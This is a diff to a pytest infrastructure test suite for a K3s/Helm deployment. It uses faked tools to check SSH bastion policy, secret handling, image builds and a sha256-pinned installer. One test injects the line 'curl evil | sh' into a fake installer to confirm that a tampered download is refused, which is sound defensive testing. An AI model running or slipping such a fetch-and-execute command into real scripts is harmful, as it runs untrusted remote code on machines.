@@ -3,6 +3,7 @@ executables placed first on PATH, which record their calls."""
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import re
@@ -14,9 +15,19 @@ from typing import Any
 
 import pytest
 
-from tests.infra.conftest import K3S_VERSION, REPO, run
+from tests.infra.conftest import K3S_VERSION, REPO, Rendered, pod_spec, run, workloads
+from tests.infra.fakes.fake_tool import MASTER_SECRET
 
-FAKE_TOOLS = ["terraform", "ssh", "kubectl", "helm", "ngrok", "uv"]
+FAKE_TOOLS = [
+    *["terraform", "ssh", "kubectl", "helm", "ngrok", "uv", "curl", "git", "docker", "aws"],
+]
+FAKE_CA_BUNDLE = "-----BEGIN CERTIFICATE-----\nMIIfake\n-----END CERTIFICATE-----\n"
+# The tag the fake git's commit gives the images.
+IMAGE_TAG = "0123456789ab"
+IMAGES = [f"ghcr.io/ca4-project/ca4-{service}:{IMAGE_TAG}" for service in ("processor", "worker")]
+NODES = ["10.40.10.11", "10.40.11.21", "10.40.10.22"]
+# What the fake curl serves as the K3s installer, and the pin the tests give the scripts.
+FAKE_INSTALLER = b"#!/bin/sh\n# stand-in for the K3s installer\necho installed\n"
 # What the recipes and scripts need from the system besides the faked tools.
 SYSTEM_TOOLS = [
     "bash",
@@ -42,15 +53,27 @@ SYSTEM_TOOLS = [
     "make",
     "test",
     "printf",
+    "sha256sum",
+    "mv",
+    "od",
 ]
 GUIDE_TARGETS = [
     "ca4-apply",
     "ca4-bootstrap-k3s",
+    "ca4-images",
+    "ca4-db-user",
     "ca4-platform-setup",
     "ca4-deploy-app",
     "ca4-verify-e2e",
 ]
-ALL_TARGETS = [*GUIDE_TARGETS, "ca4-destroy", "dev-api", "dev-ngrok", "dev-kafka-tunnel"]
+ALL_TARGETS = [
+    *GUIDE_TARGETS,
+    "ca4-images",
+    "ca4-destroy",
+    "dev-api",
+    "dev-ngrok",
+    "dev-kafka-tunnel",
+]
 
 
 def shell_scripts() -> list[Path]:
@@ -121,19 +144,35 @@ class Sandbox:
             (self.bin / tool).symlink_to(found)
         self.pubkey = root / "id_ed25519.pub"
         self.pubkey.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests ca4@test\n")
+        self.identity = root / "id_ed25519"
+        self.identity.write_text("not a real key: the fake ssh only checks that it is offered\n")
+        self.downloads = root / "downloads"
+        self.downloads.mkdir()
+        (self.downloads / "install.sh").write_bytes(FAKE_INSTALLER)
+        (self.downloads / "global-bundle.pem").write_text(FAKE_CA_BUNDLE)
+        self.state_dir = root / "ca4-state"
+        real_ssh = shutil.which("ssh")
+        if real_ssh is None:
+            pytest.fail("ssh is missing: the fake ssh resolves options with the real `ssh -G`")
         self.env = {
             "PATH": str(self.bin),
             "HOME": str(self.home),
             "CA4_FAKE_LOG": str(self.log),
             "CA4_FAKE_STATE": str(self.state),
+            "CA4_FAKE_DOWNLOADS": str(self.downloads),
+            "CA4_REAL_SSH": real_ssh,
+            "CA4_STATE_DIR": str(self.state_dir),
+            "CA4_SSH_IDENTITY": str(self.identity),
+            "CA4_K3S_INSTALLER_SHA256": hashlib.sha256(FAKE_INSTALLER).hexdigest(),
             "AWS_PROFILE": "ca4-test",
             "CA4_TF_STATE_BUCKET": "ca4-tfstate-test",
             "CA4_OPERATOR_CIDR": "198.51.100.7/32",
             "CA4_SSH_PUBLIC_KEY_FILE": str(self.pubkey),
             "CA4_MONGO_URL": "mongodb://user:pw@docdb.example:27017/?tls=true",
             "CA4_API_KEY_HASHES": "ci:" + "a" * 64,
-            "CA4_IMAGE_TAG": "0.1.0",
             "NGROK_AUTHTOKEN": "fake",
+            "CA4_API_KEY": "ca4-verify-key",
+            "CA4_GRAFANA_TOKEN": "glsa_viewer",
             "CA4_KAFKA_TUNNEL_PORT": "1",  # a port nothing listens on, so the tunnel is opened
         }
 
@@ -195,7 +234,7 @@ def steps(calls: list[dict[str, Any]]) -> list[str]:
 
 
 def test_guide_sequence(sandbox: Sandbox) -> None:
-    result = sandbox.make("ca4-apply", "ca4-bootstrap-k3s")
+    result = sandbox.make("ca4-apply", "ca4-bootstrap-k3s", "ca4-images")
     assert result.returncode == 0, result.stderr
     # The kubeconfig now exists, so the Kubernetes targets can run.
     result = sandbox.make("ca4-platform-setup", "ca4-deploy-app", "ca4-verify-e2e")
@@ -210,13 +249,10 @@ def test_guide_sequence(sandbox: Sandbox) -> None:
     # 2. ssh: first server installed before any agent, every ssh through the bastion
     ssh_calls = [c for c in calls if c["tool"] == "ssh"]
     assert ssh_calls
-    assert all(
-        c["argv"][c["argv"].index("-J") : c["argv"].index("-J") + 2]
-        == ["-J", "ubuntu@203.0.113.10"]
-        for c in ssh_calls
-    )
+    assert all(c["policy"]["target"]["proxyjump"] == ["ubuntu@203.0.113.10"] for c in ssh_calls)
+    assert all(c["policy"]["hop"] for c in ssh_calls)
     installs = [c for c in ssh_calls if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
-    assert [c["argv"][c["argv"].index("-J") + 2] for c in installs] == [
+    assert [c["argv"][c["argv"].index("-F") + 2] for c in installs] == [
         "ubuntu@10.40.10.11",
         "ubuntu@10.40.11.21",
         "ubuntu@10.40.10.22",
@@ -226,7 +262,8 @@ def test_guide_sequence(sandbox: Sandbox) -> None:
     for agent in installs[1:]:
         assert "--token-file=/etc/rancher/k3s/ca4-token" in " ".join(agent["argv"])
         assert "K10fake" not in " ".join(agent["argv"]), "the token never appears on a command line"
-    assert "kubectl wait --for=condition=Ready nodes" in " ".join(ssh_calls[-1]["argv"])
+    bootstrap = [c for c in ssh_calls if "k3s ctr" not in " ".join(c["argv"])]
+    assert "kubectl wait --for=condition=Ready nodes" in " ".join(bootstrap[-1]["argv"])
     kubeconfig = sandbox.home / ".kube" / "ca4-dev.yaml"
     assert "server: https://127.0.0.1:6443" in kubeconfig.read_text()
     assert oct(kubeconfig.stat().st_mode & 0o777) == "0o600"
@@ -240,9 +277,9 @@ def test_guide_sequence(sandbox: Sandbox) -> None:
     assert after_ssh[-1] == "uv run"
     app = helm_calls[1]["argv"]
     assert "config.s3.bucket=ca4-dev-archive-123456789012" in app
-    assert "image.tag=0.1.0" in app
+    assert f"image.tag={IMAGE_TAG}" in app
     secret_apply = [c for c in calls if c["tool"] == "kubectl" and c["argv"][:2] == ["apply", "-f"]]
-    assert len(secret_apply) == 2  # the platform namespace, then the app Secret
+    assert len(secret_apply) == 3  # the platform namespace, the app Secret, the CA bundle
     assert "mongodb://" not in json.dumps([c["argv"] for c in calls]), (
         "secrets never on a command line"
     )
@@ -263,8 +300,199 @@ def test_bootstrap_is_idempotent(sandbox: Sandbox) -> None:
     assert kubeconfig.stat().st_mtime_ns == first_mtime
 
 
+def ssh_calls_through_the_bastion(sandbox: Sandbox) -> list[dict[str, Any]]:
+    """The recorded ssh calls that hop through the bastion, each with its resolved policy."""
+    calls = [c for c in sandbox.calls() if c["tool"] == "ssh" and "hop" in c["policy"]]
+    assert calls, "no ssh call went through the bastion"
+    return calls
+
+
+def test_bootstrap_hop_never_prompts_for_a_host_key(sandbox: Sandbox) -> None:
+    """The ProxyJump hop gets the target's host-key policy and project-local known_hosts: options
+    on the ssh command line never reach the hop, so on a first run the bastion's prompt hung."""
+    result = sandbox.make("ca4-bootstrap-k3s")
+    assert result.returncode == 0, result.stderr
+    known_hosts = str(sandbox.state_dir / "known_hosts")
+    for call in ssh_calls_through_the_bastion(sandbox):
+        for side in ("hop", "target"):
+            policy = call["policy"][side]
+            assert policy["stricthostkeychecking"] == ["accept-new"], (side, call["argv"])
+            assert policy["batchmode"] == ["yes"], (side, call["argv"])
+            assert policy["userknownhostsfile"] == [known_hosts], (side, call["argv"])
+
+
+def test_bootstrap_hop_uses_the_operator_identity(sandbox: Sandbox) -> None:
+    """A key given only through CA4_SSH_IDENTITY is offered to the bastion hop as well."""
+    result = sandbox.make("ca4-bootstrap-k3s")
+    assert result.returncode == 0, result.stderr
+    for call in ssh_calls_through_the_bastion(sandbox):
+        for side in ("hop", "target"):
+            assert str(sandbox.identity) in call["policy"][side]["identityfile"], side
+
+
+def test_bootstrap_runs_only_the_pinned_installer(sandbox: Sandbox) -> None:
+    """The installer is fetched at the pinned release, checked against its sha256 and fed to the
+    node's shell; nothing is piped from the internet on the node."""
+    result = sandbox.make("ca4-bootstrap-k3s")
+    assert result.returncode == 0, result.stderr
+    fetches = [c["argv"] for c in sandbox.calls() if c["tool"] == "curl"]
+    assert fetches == [
+        [*fetches[0][:-1], f"https://raw.githubusercontent.com/k3s-io/k3s/{K3S_VERSION}/install.sh"]
+    ]
+    installs = [
+        c
+        for c in sandbox.calls()
+        if c["tool"] == "ssh" and "INSTALL_K3S_VERSION" in " ".join(c["argv"])
+    ]
+    assert len(installs) == 3
+    for call in installs:
+        remote = " ".join(call["argv"])
+        assert "curl" not in remote, remote
+        assert "get.k3s.io" not in remote, remote
+        assert call["stdin"] == FAKE_INSTALLER.decode()
+
+
+def test_bootstrap_refuses_a_tampered_installer(sandbox: Sandbox) -> None:
+    (sandbox.downloads / "install.sh").write_bytes(FAKE_INSTALLER + b"curl evil | sh\n")
+    result = sandbox.make("ca4-bootstrap-k3s")
+    assert result.returncode != 0
+    assert "does not match its pinned sha256" in result.stderr
+    installs = [c for c in sandbox.calls() if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
+    assert installs == []
+
+
+def image_steps(calls: list[dict[str, Any]]) -> list[str]:
+    """Builds, saves and node imports, as `verb ref` / `import node ref` strings, in call order."""
+    out = []
+    for call in calls:
+        argv = call["argv"]
+        if call["tool"] == "docker" and argv[0] in {"build", "save"}:
+            ref = argv[argv.index("-t") + 1] if argv[0] == "build" else argv[-1]
+            out.append(f"{argv[0]} {ref}")
+        elif call["tool"] == "ssh" and "images import" in " ".join(argv):
+            node = argv[argv.index("-F") + 2].split("@")[1]
+            out.append(f"import {node} {call['stdin'].split()[-1]}")
+    return out
+
+
+def test_first_deploy_builds_ships_and_deploys_one_tag(sandbox: Sandbox) -> None:
+    """The whole first deploy, non-interactive: the images built at the commit are the ones every
+    node imports and the one tag Helm deploys; a second run builds, ships and installs nothing."""
+    guide = ["ca4-apply", "ca4-bootstrap-k3s", "ca4-images", "ca4-db-user"]
+    cluster = ["ca4-platform-setup", "ca4-deploy-app", "ca4-verify-e2e"]
+    for run_number in (1, 2):
+        sandbox.reset()
+        for targets in (guide, cluster):
+            result = sandbox.make(*targets, env={"CA4_SSH_IDENTITY": str(sandbox.identity)})
+            assert result.returncode == 0, result.stderr
+        calls = sandbox.calls()
+        order = [s for s in steps(calls) if s.split()[0] in {"terraform", "docker", "helm", "uv"}]
+        assert order[:3] == ["terraform init", "terraform plan", "terraform apply"]
+        assert order[-3:] == ["helm upgrade", "helm upgrade", "uv run"]
+        helm = [c["argv"] for c in calls if c["tool"] == "helm"]
+        assert f"image.tag={IMAGE_TAG}" in helm[1]
+        # The app's database user: the master secret only on the stdin of `ca4 db-user`.
+        db_user = next(c for c in calls if c["tool"] == "uv" and "db-user" in c["argv"])
+        assert db_user["stdin"].splitlines()[0] == MASTER_SECRET
+        master_password = "master-pw-never-in-argv"
+        assert master_password not in json.dumps([c["argv"] for c in calls])
+        assert not [
+            c for c in calls if c["tool"] in {"kubectl", "helm"} and master_password in c["stdin"]
+        ]
+        ssh_policies = [side for c in calls if c["tool"] == "ssh" for side in c["policy"].values()]
+        assert all(side["batchmode"] == ["yes"] for side in ssh_policies), "ssh could prompt"
+        if run_number == 1:
+            assert image_steps(calls) == [
+                *[f"build {IMAGES[0]}", f"save {IMAGES[0]}"],
+                *[f"import {node} {IMAGES[0]}" for node in NODES],
+                *[f"build {IMAGES[1]}", f"save {IMAGES[1]}"],
+                *[f"import {node} {IMAGES[1]}" for node in NODES],
+            ]
+            state = {p: p.read_bytes() for p in sandbox.state_dir.rglob("*") if p.is_file()}
+            kubeconfig = (sandbox.home / ".kube" / "ca4-dev.yaml").stat().st_mtime_ns
+        else:
+            assert image_steps(calls) == [], "second run rebuilt or reshipped"
+            assert not [c for c in calls if "create-secret" in c["argv"]], "a second app secret"
+            assert not [c for c in calls if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
+            after = {p: p.read_bytes() for p in sandbox.state_dir.rglob("*") if p.is_file()}
+            assert after == state
+            assert (sandbox.home / ".kube" / "ca4-dev.yaml").stat().st_mtime_ns == kubeconfig
+    assert (sandbox.state_dir / "image-tag").read_text().strip() == IMAGE_TAG
+
+
+def test_deploy_fetches_the_db_ca_bundle_into_what_the_chart_mounts(
+    sandbox: Sandbox, rendered: Rendered
+) -> None:
+    """The RDS CA bundle is downloaded at deploy time into the ConfigMap and key the prod chart
+    mounts, before the chart is installed; the master password never enters the cluster."""
+    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
+    sandbox.reset()
+    result = sandbox.make("ca4-deploy-app")
+    assert result.returncode == 0, result.stderr
+    calls = sandbox.calls()
+    fetch = next(i for i, c in enumerate(calls) if c["tool"] == "curl")
+    assert calls[fetch]["argv"][-1] == (
+        "https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem"
+    )
+    create = next(
+        c["argv"] for c in calls[fetch:] if c["tool"] == "kubectl" and "configmap" in c["argv"]
+    )
+    helm = next(i for i, c in enumerate(calls) if c["tool"] == "helm")
+    assert fetch < helm
+    volumes = [
+        v
+        for w in workloads(rendered[("ca4-app", "prod")])
+        for v in pod_spec(w).get("volumes", [])
+        if "configMap" in v
+    ]
+    mounted = {(v["configMap"]["name"], i["key"]) for v in volumes for i in v["configMap"]["items"]}
+    name = create[create.index("configmap") + 1]
+    assert {(name, "global-bundle.pem")} <= mounted, mounted
+    assert "secretsmanager" not in json.dumps([c["argv"] for c in calls])
+
+
+def test_images_refuse_uncommitted_changes(sandbox: Sandbox) -> None:
+    result = sandbox.make("ca4-images", env={"CA4_FAKE_GIT_STATUS": " M services/worker/x.py\n"})
+    assert result.returncode != 0
+    assert "uncommitted changes" in result.stderr
+    assert not [c for c in sandbox.calls() if c["tool"] == "docker"]
+
+
+@pytest.mark.parametrize("tool", ["podman", "buildah"])
+def test_images_use_whichever_tool_exists(sandbox: Sandbox, tool: str) -> None:
+    (sandbox.bin / "docker").unlink()
+    sandbox.add_fake(tool, (Path(__file__).parent / "fakes" / "fake_tool.py").read_text())
+    result = sandbox.make("ca4-images")
+    assert result.returncode == 0, result.stderr
+    verbs = [
+        c["argv"][0]
+        for c in sandbox.calls()
+        if c["tool"] == tool and c["argv"][0] not in {"image", "inspect"}
+    ]
+    assert verbs[:1] == ["bud" if tool == "buildah" else "build"]
+
+
+def test_images_name_the_missing_tool(sandbox: Sandbox) -> None:
+    (sandbox.bin / "docker").unlink()
+    result = sandbox.make("ca4-images")
+    assert result.returncode != 0
+    lines = result.stderr.strip().splitlines()
+    assert lines[:1] == [
+        "images.sh: missing tool: docker, podman or buildah "
+        "(install one to build the images, or set CA4_IMAGE_TOOL)"
+    ]
+
+
+def test_deploy_without_a_built_tag_is_refused(sandbox: Sandbox) -> None:
+    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
+    result = sandbox.make("ca4-deploy-app")
+    assert result.returncode != 0
+    assert "ca4-deploy-app: no image tag: run 'make ca4-images'" in result.stderr
+    assert not [c for c in sandbox.calls() if c["tool"] == "helm"]
+
+
 def test_helm_targets_are_idempotent_upgrades(sandbox: Sandbox) -> None:
-    assert sandbox.make("ca4-bootstrap-k3s").returncode == 0
+    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
     for _ in range(2):
         sandbox.reset()
         result = sandbox.make("ca4-platform-setup", "ca4-deploy-app")
